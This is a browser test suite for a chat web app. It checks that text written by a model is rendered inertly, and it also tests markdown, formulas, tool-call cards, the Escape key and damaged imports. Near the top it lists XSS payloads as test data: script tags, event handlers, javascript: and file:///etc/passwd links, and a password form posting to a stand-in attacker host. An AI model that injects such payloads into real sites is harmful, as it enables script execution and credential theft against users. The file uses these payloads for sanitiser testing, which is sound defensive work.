// The text of a model is only text, whatever it contains: scripted answers in a real browser.
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import t from 'tap';
import type { Script } from '../server/fake-engine.js';
import { hang } from '../server/fake-engine.js';
import { startApp, until } from '../server/app-under-test.js';
import { deferred } from '../deferred.js';
import { closeBrowsers, lastAnswer, missing, openPage, say, type BrowserName } from './browsers.js';
import type { Page } from 'playwright-core';

t.teardown(closeBrowsers);

/** Answers with these pieces, one after another. */
const says = (...pieces: string[]): Script => async function* () {
  for (const content of pieces) {
    await new Promise(setImmediate);
    yield { content };
  }
};

const hostile = [
  '<script>document.title = "script"</script>',
  '<img src="https://attacker.example/a.png" onerror="document.title = \'onerror\'">',
  '<svg onload="document.title = \'svg\'"><style>* { display: none }</style></svg>',
  '<style>body { background: url(https://attacker.example/css) }</style>',
  '<iframe src="javascript:parent.document.title = \'frame\'"></iframe>',
  '<link rel="stylesheet" href="https://attacker.example/sheet.css"><meta http-equiv="refresh" content="0;url=https://attacker.example/">',
  '![picture](https://attacker.example/picture.png "title")',
  '[script](javascript:document.title="link") [data](data:text/html,<script>1</script>) [vb](vbscript:x) [file](file:///etc/passwd)',
  '[entity](&#106;avascript:document.title="entity") [tab](java\tscript:document.title="tab")',
  '<https://attacker.example/auto> and https://attacker.example/bare',
  '[a good link](https://example.org/page "its title")',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '```html\n<script>document.title = "code"</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '$\\href{javascript:alert(1)}{x}$ and $\\includegraphics{https://attacker.example/tex.png}$ and $$\\style{background:url(https://attacker.example/t)}{x}$$',
  '<form action="https://attacker.example/"><input name="password" autofocus onfocus="document.title = \'focus\'"></form>',
  '&lt;script&gt;document.title = "twice"&lt;/script&gt;',
  '<a href="https://attacker.example/" ping="https://attacker.example/ping" target=_top>x</a>',
].join('\n\n');

for (const name of ['chromium', 'firefox'] satisfies BrowserName[]) {
  t.test(`nothing that a model writes runs, styles the page or is fetched in ${name}`, { skip: missing(name) }, async (t) => {
    const { url, engine } = await startApp(t);
    const { page, asked, complaints } = await openPage(t, name, url);
    // Whole, and cut everywhere.
    for (const script of [says(hostile), says(...hostile.match(/[^]{1,3}/g)!)]) {
      engine.script = script;
      await page.getByRole('button', { name: 'New chat' }).first().click();
      await say(page, '<script>document.title = "said"</script><img src=x onerror="document.title=1">');
      await lastAnswer(page);
      await page.getByText('attacker.example/bare').first().waitFor();
      t.match(await page.title(), /^Recua$/);
      const answer = page.locator('article.answer');
      t.strictSame(await answer.locator('script, img, style, iframe, link, meta, form, object, embed, svg image, [onerror], [onload], [onfocus], [ping]').count(), 0);
      const links = await answer.locator('a').evaluateAll((all) => all.map((link) => [(link as HTMLAnchorElement).protocol, (link as HTMLAnchorElement).rel, (link as HTMLAnchorElement).target]));
      t.ok(links.length >= 4, 'links are links');
      for (const [protocol, rel, target] of links) {
        t.match(protocol, /^https:$/);
        t.match(rel, /noopener noreferrer/);
        t.equal(target, '_blank');
      }
      t.match(await answer.innerText(), /<script>document\.title = "script"<\/script>/, 'it is shown as it was written');
      t.equal(await answer.locator('table').count(), 1);
    }
    t.strictSame(complaints, []);
    t.strictSame(asked.filter((address) => !address.startsWith(url)), [], 'no request leaves the origin');
  });
}

t.test('a click opens a link, in a page that knows nothing of this one', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  engine.script = says(`[the list](${url}/v1/models)`);
  const { page } = await openPage(t, 'chromium', url);
  await say(page, 'a link');
  await lastAnswer(page);
  const opening = page.context().waitForEvent('page');
  await page.getByRole('link', { name: 'the list' }).click();
  const opened = await opening;
  await opened.waitForLoadState();
  t.equal(await opened.evaluate('opener'), null);
  t.equal(await opened.evaluate('document.referrer'), '');
});

for (const browser of ['chromium', 'firefox'] as BrowserName[]) {
  t.test(`a site that opens the page cannot reach it, in ${browser}`, { skip: missing(browser) }, async (t) => {
    const { url } = await startApp(t);
    const other = createServer((_req, res) => res.setHeader('Content-Type', 'text/html').end('<title>Other</title>')).listen(0, '127.0.0.2');
    t.teardown(() => other.close());
    await once(other, 'listening');
    const { page } = await openPage(t, browser, url);
    await page.goto(`http://127.0.0.2:${(other.address() as AddressInfo).port}/`);
    const opening = page.context().waitForEvent('page');
    await page.evaluate((address) => void (globalThis as any).open(address), url);
    const opened = await opening;
    await opened.getByRole('textbox', { name: 'Message' }).waitFor();
    t.equal(await opened.evaluate('opener'), null);
  });
}

t.test('ten megabytes leave the page responsive', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t, { maxTokens: 100_000 });
  const { page, complaints } = await openPage(t, 'chromium', url);
  const shapes: Record<string, string[]> = {
    'one line without an end': Array.from({ length: 100 }, () => 'word '.repeat(20_000)),
    'code without an end': ['```js\n', ...Array.from({ length: 100 }, () => 'let a = 1;\n'.repeat(9_000))],
    'brackets that never close': Array.from({ length: 20 }, () => '[!['.repeat(2_000) + '**_'.repeat(2_000)),
  };
  for (const [shape, pieces] of Object.entries(shapes)) {
    engine.script = says(...pieces);
    await page.getByRole('button', { name: 'New chat' }).first().click();
    await say(page, shape);
    await lastAnswer(page).catch((error: unknown) => t.fail(`${shape}: ${String(error)}`));
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('still here');
    t.equal(await box.inputValue(), 'still here', shape);
  }
  t.strictSame(complaints, []);
});

t.test('an answer that fails says why, and one that hangs is stopped', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  engine.script = async function* () {
    yield { content: 'So far' };
    throw new Error('the model broke');
  };
  await say(page, 'fail');
  t.match(await page.locator('article.answer').getByRole('alert').innerText(), /./);
  t.match(await page.locator('article.answer .prose').innerText(), 'So far');
  engine.script = hang;
  const { cancelled } = engine;
  await say(page, 'hang');
  await page.getByText('Waiting for the model…').waitFor();
  await until(() => engine.running.size === 1);
  await page.keyboard.press('Escape');
  await page.locator('article.answer').last().getByText('stopped').waitFor();
  await until(() => engine.cancelled > cancelled);

  await t.test('Escape first closes what is open', async (t) => {
    const before = engine.cancelled;
    const box = page.getByRole('textbox', { name: 'Message' });
    await say(page, 'hang');
    await page.getByText('Waiting for the model…').waitFor();
    await page.getByRole('button', { name: 'Chat settings' }).click();
    const settings = page.getByRole('complementary', { name: 'Chat settings' });
    await settings.getByLabel('System prompt').press('Escape');
    await settings.waitFor({ state: 'detached' });
    const entry = page.getByRole('navigation', { name: 'Chats' }).getByRole('listitem').first();
    await entry.getByRole('button', { name: /^Actions for/ }).press('Enter');
    await entry.getByRole('group').waitFor();
    await box.focus();
    await page.keyboard.press('Escape');
    await entry.getByRole('group').waitFor({ state: 'detached' });
    const search = page.getByRole('searchbox', { name: 'Search chats' });
    await search.fill('hang');
    await search.press('Escape');
    t.equal(await search.inputValue(), '');
    // As on a Mac, where it closes the list of suggested words.
    const composing = { key: 'Escape', isComposing: true, bubbles: true, cancelable: true };
    await box.dispatchEvent('keydown', composing);
    t.ok(await page.getByText('Waiting for the model…').isVisible());
    t.equal(engine.cancelled, before);
    await box.press('Escape');
    await page.locator('article.answer').last().getByText('stopped').waitFor();

    await page.getByRole('button', { name: 'Edit and resend' }).last().click();
    const editor = page.locator('.editor textarea');
    await editor.dispatchEvent('keydown', composing);
    t.ok(await editor.isVisible(), 'the edit is not lost');
    await editor.press('Escape');
    await editor.waitFor({ state: 'detached' });
  });
});

/** Runs in the page: removes the last answer; the message before it may be as old. */
const removeLast = `new Promise((resolve, reject) => {
  const opening = indexedDB.open('recua');
  opening.onsuccess = () => {
    const transaction = opening.result.transaction('messages', 'readwrite');
    const messages = transaction.objectStore('messages');
    messages.getAll().onsuccess = ({ target }) => messages.delete(target.result.filter(({ role }) => role === 'assistant').sort((a, b) => a.createdMs - b.createdMs).at(-1).id);
    transaction.oncomplete = resolve;
    transaction.onabort = reject;
  };
})`;

t.test('thoughts are folded, and the user types the results of tool calls', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  const { page, complaints } = await openPage(t, 'chromium', url);
  engine.script = async function* (request) {
    const { role } = (JSON.parse(request.messages) as { role: string }[]).at(-1)!;
    if (role === 'tool') return void (yield { content: 'It is **warm**.' });
    yield { reasoning: 'They want the weather.' };
    yield { toolCalls: [{ index: 0, id: 'call_1', name: 'weather', arguments: '{"city":' }] };
    yield { toolCalls: [{ index: 0, arguments: '"Lima","id":12345678901234567890}' }] };
  };
  engine.finish = { finishReason: 'tool_calls' };
  await say(page, 'Weather in Lima?');
  await lastAnswer(page);
  const answer = page.locator('article.answer').first();
  t.notMatch(await answer.innerText(), 'They want');
  await answer.getByText('Thoughts').click();
  await answer.getByText('They want the weather.').waitFor();
  t.match(await answer.getByRole('region', { name: 'Call to weather' }).innerText(), /\{\n {2}"city": "Lima",\n {2}"id": 12345678901234567890\n\}/, 'no digit is rounded');
  engine.finish = {};
  await answer.getByRole('textbox', { name: 'Result of weather' }).fill('31 degrees');
  await answer.getByRole('button', { name: 'Submit result' }).click();
  await page.locator('article.answer').nth(1).getByText('warm').waitFor();
  t.match(JSON.parse(engine.requests.at(-1)!.messages), [{ role: 'user' }, { role: 'assistant', tool_calls: [{ id: 'call_1' }] }, { role: 'tool', tool_call_id: 'call_1', content: '31 degrees' }]);

  // A browser that died between the result and its answer.
  await lastAnswer(page);
  await page.evaluate(removeLast);
  await page.reload();
  await page.getByRole('button', { name: 'Get an answer' }).click();
  await page.locator('article.answer').nth(1).getByText('warm').waitFor();
  t.equal(await page.getByRole('button', { name: 'Get an answer' }).count(), 0);

  // The model uses the id again, and the card asks for its own result.
  engine.script = async function* () { yield { toolCalls: [{ index: 0, id: 'call_1', name: 'weather', arguments: '{"city":"Cusco"}' }] }; };
  engine.finish = { finishReason: 'tool_calls' };
  await say(page, 'And in Cusco?');
  await page.locator('article.answer').nth(2).getByRole('textbox', { name: 'Result of weather' }).waitFor();
  t.strictSame(complaints, []);
});

t.test('Markdown, code with colors and formulas are drawn', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  const { page, complaints } = await openPage(t, 'chromium', url);
  const text = '# Head\n\n1. one\n\n   ```python\n   def f(): return "x"\n   ```\n\n2. two\n\n| a | b |\n|--:|---|\n| 1 | `c` |\n\n- [x] done\n\nSum $\\frac{1}{2}$ costs $5 or $6.\n\nAlso $$\\sqrt{2}$$ here.\n\n$$\nE = mc^2\n$$\n\nSee [docs](https://example.org).';
  engine.script = says(...text.match(/[^]{1,4}/g)!);
  await say(page, 'show');
  await lastAnswer(page);
  const answer = page.locator('article.answer');
  await answer.locator('.hl-keyword').first().waitFor();
  await answer.locator('math').nth(2).waitFor();
  t.equal(await answer.locator('math').count(), 3, 'prices are no formulas');
  t.equal(await answer.locator('p').filter({ hasText: /^Also.*here\.$/ }).locator('math').count(), 1, 'two dollars may stand in a sentence');
  t.equal(await answer.locator('ol').count(), 1, 'a list that grows stays one list');
  t.equal(await answer.locator('ol > li').count(), 2);
  t.equal(await answer.locator('td.align-right').innerText(), '1');
  t.strictSame(complaints, []);
});

t.test('the numbers of a list have room, however long they are', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  engine.script = says('1. one\n\ntext\n\n1998. first\n1999. second\n\ntext\n\n999999. the last\n1. one more');
  await say(page, 'years');
  await lastAnswer(page);
  const room = await page.locator('article.answer ol').evaluateAll((lists) => lists.map((list) => {
    const number = document.createElement('span');
    number.append(`${(list as HTMLOListElement).start + list.children.length - 1}. `);
    number.style.whiteSpace = 'pre';
    list.firstElementChild!.prepend(number);
    return parseFloat(getComputedStyle(list).paddingLeft) - number.getBoundingClientRect().width;
  }));
  t.equal(room.length, 3);
  t.ok(room.every((spare) => spare > 0), room.join(', '));
});

t.test('a short text makes no table of millions of cells', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  const { page, complaints } = await openPage(t, 'chromium', url);
  const head = (columns: number) => `${'a|'.repeat(columns)}\n${'-|'.repeat(columns)}\n`;
  // Rows without the last cells are well-formed.
  engine.script = says(`${head(10)}${'b|c\n'.repeat(50)}\n${head(300)}${'x\n'.repeat(300)}\nend`);
  await say(page, 'table');
  await lastAnswer(page);
  t.equal(await page.locator('article.answer td').count(), 500);
  t.match(await page.locator('article.answer .raw').innerText(), /^a\|a\|.*\n-\|-\|.*\nx\nx\n/);
  t.strictSame(complaints, []);
});

t.test('JSON of any depth is indented as far as anyone reads', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  const { page, complaints } = await openPage(t, 'chromium', url);
  await page.getByRole('button', { name: 'Chat settings' }).click();
  await page.getByText('Answer as JSON with this schema').first().click();
  await page.getByRole('textbox', { name: 'Answer as JSON with this schema' }).fill('{"type": "array"}');
  await page.keyboard.press('Escape');
  const deep = '['.repeat(20_000) + ']'.repeat(20_000);
  engine.script = says(deep);
  await say(page, 'nest');
  await page.getByText('Valid JSON').waitFor();
  const shown = await page.getByRole('region', { name: 'JSON' }).textContent();
  t.equal(shown!.replace(/\s/g, ''), deep);
  t.match(shown, /^\[\n {2}\[\n {4}\[/);
  t.ok(shown!.length < 2 * deep.length, `${shown!.length} characters`);
  t.strictSame(complaints, []);
});

t.test('code that would take long to color stays plain', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  const slow = ['a'.repeat(20_000), 'public '.repeat(3_000), 'public class A\n'.repeat(1_500)];
  await drawn(page, url, [[...slow, 'public class A { int b; }'].map((code) => `\`\`\`java\n${code}\n\`\`\`\n\n`).join('')]);
  await page.locator('#drawn .code').last().locator('.hl-keyword').first().waitFor();
  t.strictSame(await page.locator('#drawn .code').evaluateAll((all) => all.map((code) => code.querySelectorAll('[class^=hl-]').length > 0)), [false, false, false, true]);
});

t.test('a character reference that no name has stays as it is', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  await drawn(page, url, ['&lt; &toString; &valueOf; &amp;']);
  t.equal(await page.locator('#drawn').innerText(), '< &toString; &valueOf; &');
});

t.test('a long run of text is read in pieces, and nothing of it is lost', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  const read = await page.evaluate(async (module) => {
    interface Token { type: string; raw: string; tokens: Token[] }
    const { tokensOf } = await import(module) as { tokensOf(text: string): Token[] };
    const words = 'word '.repeat(900);
    return ['a_'.repeat(10_000), 'a'.repeat(20_000), `${words}**bold** ${words}\`code\``, `*${words.trim()}*`].map((text) => {
      const [{ raw, tokens }] = tokensOf(text) as [Token];
      return { whole: raw === text && tokens.map((one) => one.raw).join('') === text, kinds: [...new Set(tokens.map(({ type }) => type))] };
    });
  }, new URL('ui/text/markdown.js', url).href);
  t.ok(read.every(({ whole }) => whole));
  // Over long runs, marked would take time with the square of their length.
  t.strictSame(read.slice(2).map(({ kinds }) => kinds), [['text', 'strong', 'codespan'], ['text']], 'emphasis is read within a piece only');
});

/** Draws texts one after another, each a longer beginning of the answer; the last is complete. */
async function drawn(page: Page, url: string, texts: string[]): Promise<void> {
  await page.evaluate(async ({ module, texts }) => {
    interface Growing { show(text: string, complete: boolean): void }
    const { GrowingText } = await import(module) as { GrowingText: new (into: HTMLElement) => Growing };
    const into = document.createElement('div');
    into.id = 'drawn';
    document.querySelector('#drawn')?.remove();
    document.body.append(into);
    const growing = new GrowingText(into);
    for (const [at, text] of texts.entries()) {
      growing.show(text, at === texts.length - 1);
      await new Promise((resolve) => setTimeout(resolve, 150));
    }
  }, { module: new URL('ui/text/growing-text.js', url).href, texts });
}

t.test('a code block of any length is one block, and what follows is not code', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  const code = Array.from({ length: 900 }, (_, i) => `function f${i}() {\n  return ${i};\n}\n`).join('\n');
  await drawn(page, url, [`Here it is:\n\n\`\`\`js\n${code}\`\`\`\n\nAfter the **code**.\n`]);
  t.ok(code.length > 26_000);
  t.equal(await page.locator('#drawn .code').count(), 1);
  t.equal((await page.locator('#drawn .code code').textContent())!.trim(), code.trim());
  t.equal(await page.locator('#drawn strong').innerText(), 'code');
  const text = `${'A word. '.repeat(1_000)}\n\n`.repeat(3);
  await drawn(page, url, [`${text}\`\`\`\na\n\n\`\`\`\n\n${text}`]);
  t.equal(await page.locator('#drawn .code').count(), 1);
  t.equal(await page.locator('#drawn p').count(), 6);
});

t.test('a formula of several lines is a formula however it comes', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  const text = 'So\n\n$$\ny = b_1\n- b_2\n\n- b_3\n$$\n\nand\n\n\\[\nx = a\n+ b\n\\]\n\n$$ is no formula, and neither is this.\n\nDone.\n';
  const lines = text.split('\n');
  await drawn(page, url, lines.map((_, at) => lines.slice(0, at + 1).join('\n')));
  t.equal(await page.locator('#drawn div.math math').count(), 2);
  t.equal(await page.locator('#drawn li').count(), 0);
  t.match(await page.locator('#drawn').innerText(), /Done\./);
});

t.test('a short formula cannot be made huge, nor name parts of the page', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  await drawn(page, url, [`$$\n\\def\\a{${'x'.repeat(3_500)}}${'\\a '.repeat(100)}\n$$\n\n$$\n\\label{question} x\n$$\n`]);
  await page.locator('#drawn math').waitFor();
  t.equal(await page.locator('#drawn math').count(), 1, 'macros are shown as they are');
  t.equal(await page.locator('#drawn [id]').count(), 0);
});

t.test('formulas are drawn once their module comes', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page } = await openPage(t, 'chromium', url);
  await page.route(/vendor\/temml\.js/, (route) => route.abort(), { times: 1 });
  await drawn(page, url, ['$$\na\n$$\n']);
  t.equal(await page.locator('#drawn math').count(), 0);
  await drawn(page, url, ['$$\nb\n$$\n']);
  await page.locator('#drawn math').waitFor();
});

t.test('complete blocks are not redrawn while the answer grows', { skip: missing('chromium') }, async (t) => {
  const { url, engine } = await startApp(t);
  const { promise: held, resolve: release } = deferred();
  engine.script = async function* () {
    yield { content: 'First.\n\nSecond.\n\nThi' };
    await held;
    for (let at = 0; at < 50; at++) {
      await new Promise(setImmediate);
      yield { content: `rd ${at}\n\n` };
    }
  };
  const { page } = await openPage(t, 'chromium', url);
  await say(page, 'grow');
  await page.locator('article.answer p').getByText('Second.').waitFor();
  await page.evaluate('document.querySelector("article.answer .prose p").kept = true');
  release();
  await lastAnswer(page);
  t.equal(await page.evaluate('document.querySelector("article.answer .prose p").kept'), true);
});

t.test('a file to import that is damaged changes nothing, and the page goes on', { skip: missing('chromium') }, async (t) => {
  const { url } = await startApp(t);
  const { page, complaints } = await openPage(t, 'chromium', url);
  const message = { id: 'a', parent: '', role: 'user', content: 'Hi' };
  const conversation = { title: 'Imported' };
  const damaged = [
    null,
    {},
    { conversation },
    { conversation: { title: 1 }, messages: [] },
    { conversation: { ...conversation, model: {} }, messages: [] },
    { conversation: { ...conversation, settings: 'x' }, messages: [] },
    { conversation: { ...conversation, settings: { system: 1 } }, messages: [] },
    { conversation: { ...conversation, chosen: [] }, messages: [] },
    ...[
      { id: '' },
      { parent: 1 },
      { role: 'system' },
      { content: null },
      { attached: 'x' },
      { attached: [{ name: 'a' }] },
      { toolCalls: [{}] },
      { toolCalls: {} },
      { reasoning: {} },
      { error: [] },
      { createdMs: '1' },
      { createdMs: 1e308 },
    ].map((field) => ({ conversation, messages: [{ ...message, ...field }] })),
    { conversation, messages: [message, { ...message, parent: 'a' }] },
  ];
  const take = async (chats: unknown[]) => await page.getByLabel('File to import').setInputFiles({ name: 'chats.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify({ format: 'recua-chats', version: 1, chats })) });
  for (const [at, chat] of damaged.entries()) {
    // Its place in the file tells the notices apart.
    const before = Array.from({ length: at }, () => ({ conversation, messages: [] }));
    await take([...before, chat]);
    await page.getByText(`chats.json, chat ${at + 1} is damaged`).waitFor();
  }
  t.equal(await page.getByText('Imported').count(), 0);

  // Only titles, ids, roles and texts are necessary. Numbers that are not whole are left out.
  await take([{ conversation, messages: [{ ...message, stats: { tokens: null } }, { id: 'b', parent: 'a', role: 'assistant', content: 'Hello', stats: [] }] }]);
  await page.getByText('Imported', { exact: true }).click();
  await page.locator('article.answer').getByText('Hello').waitFor();
  t.same(complaints, []);
});
